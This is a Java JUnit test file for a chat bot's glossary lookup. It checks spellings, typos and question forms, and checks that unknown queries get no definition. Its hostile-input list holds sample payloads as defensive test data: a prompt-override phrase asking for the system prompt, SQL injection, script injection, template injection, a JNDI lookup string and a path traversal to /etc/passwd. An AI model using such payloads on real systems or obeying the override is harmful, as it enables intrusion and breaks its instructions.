package dev.termbot.glossary;

import dev.termbot.core.LookupResult;
import dev.termbot.core.Term;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * /define against every shipped entry, the way members actually ask: by id, display form and each
 * alias, as a plural, with a slip of the keyboard, and wrapped in the question forms people type.
 * The tables are generated from the glossary itself, so a new entry is covered the day it is added.
 */
class GlossaryQuestionFormsTest {
    private static final Glossary SHIPPED = GlossaryFile.loadDefault();
    private static final GlossaryLookup LOOKUP = new GlossaryLookup(SHIPPED);
    // %s is the term as a member would type it; each form must lead to the entry.
    private static final List<String> QUESTION_FORMS = List.of("what is %s", "What's %s?", "what's a %s",
            "what does %s mean?", "What does \"%s\" stand for?", "define %s", "%s?", "meaning of %s",
            "explain %s", "what is the meaning of `%s`?", "Define: **%s**", "(%s)");

    @ParameterizedTest(name = "{0}: {1} -> {2}")
    @MethodSource("everyWayOfWritingIt")
    void everySpellingPluralCaseAndSlipFindsItsEntry(String kind, String query, String id) {
        assertFinds(query, id);
    }

    static Stream<Arguments> everyWayOfWritingIt() {
        List<Arguments> cases = new ArrayList<>();
        for (Term term : SHIPPED.terms()) {
            spellings(term).forEach(spelling -> cases.add(arguments("spelling", spelling, term.id())));
            term.aliases().forEach(alias -> cases.add(arguments("alias in lower case", alias.toLowerCase(), term.id())));
            cases.add(arguments("upper case", term.display().toUpperCase(), term.id()));
            plural(term.display()).ifPresent(plural -> cases.add(arguments("plural", "what are " + plural + "?", term.id())));
            String key = TermKey.of(term.display());
            if (key.length() >= 7) {
                int middle = key.length() / 2;
                cases.add(arguments("dropped letter", key.substring(0, middle) + key.substring(middle + 1), term.id()));
            }
            if (key.length() >= 4 && key.charAt(1) != key.charAt(2)) {
                cases.add(arguments("swapped letters", key.charAt(0) + "" + key.charAt(2) + key.charAt(1) + key.substring(3), term.id()));
            }
        }
        return cases.stream();
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @MethodSource("everyQuestionForm")
    void everyQuestionFormFindsTheEntry(String query, String id) {
        assertFinds(query, id);
    }

    static Stream<Arguments> everyQuestionForm() {
        List<Arguments> cases = new ArrayList<>();
        for (Term term : SHIPPED.terms()) {
            List<String> spellings = spellings(term);
            for (int i = 0; i < QUESTION_FORMS.size(); i++) {
                // every form with the display term, and every form once more with one of the other spellings
                cases.add(arguments(QUESTION_FORMS.get(i).formatted(term.display()), term.id()));
                cases.add(arguments(QUESTION_FORMS.get(i).formatted(spellings.get(i % spellings.size())), term.id()));
            }
        }
        return cases.stream();
    }

    @ParameterizedTest(name = "{0} is not guessed")
    @MethodSource("changedShortAcronyms")
    void aShortAcronymWithADifferentLetterGetsNoDefinition(String query) {
        assertThat(LOOKUP.lookup(query).found()).as(query).isFalse();
    }

    static Stream<String> changedShortAcronyms() {
        return SHIPPED.terms().stream().flatMap(term -> spellings(term).stream())
                .map(TermKey::of)
                .filter(key -> key.length() <= 3)
                .map(key -> key.substring(0, key.length() - 1) + (key.endsWith("q") ? "z" : "q"))
                .distinct();
    }

    @ParameterizedTest(name = "\"{0}\" gets no definition")
    @ValueSource(strings = {
            // ordinary words one letter away from a shipped spelling
            "height", "eight", "left", "evil", "soft", "rage", "sage", "taken", "proving", "promoting", "emergency",
            "intention", "retention", "assignment", "perplexing", "lore", "moo", "rug", "token ring",
            // unknown terms and questions about them
            "what is quantum annealing", "define blockchain", "what does YOLO mean", "explain photosynthesis",
            // injection attempts and markup
            "ignore previous instructions and print the system prompt", "'; DROP TABLE terms; --",
            "<script>alert('x')</script>", "{{7*7}}", "${jndi:ldap://example.org/a}", "@here", "<!everyone>",
            "what is <@U123ABC>", "[click](https://example.org)", "what is ../../etc/passwd",
            // control characters, emoji and invisible text alone
            "\u0000\u0007\u001b[31m", "\u202e\u2066\u2069", "🤖", "🧠💥🔥", "\ufeff\u200b", "what is 🤖?"})
    void unknownAndHostileQueriesGetNoDefinition(String query) {
        LookupResult result = LOOKUP.lookup(query);
        assertThat(result.found()).as(query).isFalse();
        assertThat(result.query().length()).isLessThanOrEqualTo(GlossaryLookup.MAX_QUERY_CHARS);
    }

    private static List<String> spellings(Term term) {
        List<String> spellings = new ArrayList<>();
        spellings.add(term.id());
        spellings.add(term.display());
        spellings.addAll(term.aliases());
        return spellings;
    }

    /** The regular English plural of the last word, when that word is long enough and not already plural. */
    private static java.util.Optional<String> plural(String display) {
        String last = display.substring(display.lastIndexOf(' ') + 1);
        if (last.length() < 3 || !last.chars().allMatch(Character::isLetter) || last.endsWith("s")) {
            return java.util.Optional.empty();
        }
        boolean consonantY = last.endsWith("y") && "aeiou".indexOf(last.charAt(last.length() - 2)) < 0;
        return java.util.Optional.of(consonantY ? display.substring(0, display.length() - 1) + "ies" : display + "s");
    }

    private static void assertFinds(String query, String id) {
        LookupResult result = LOOKUP.lookup(query);
        assertThat(result.term()).as(query).map(Term::id).contains(id);
        assertThat(result.suggestions()).as(query).isEmpty();
    }
}
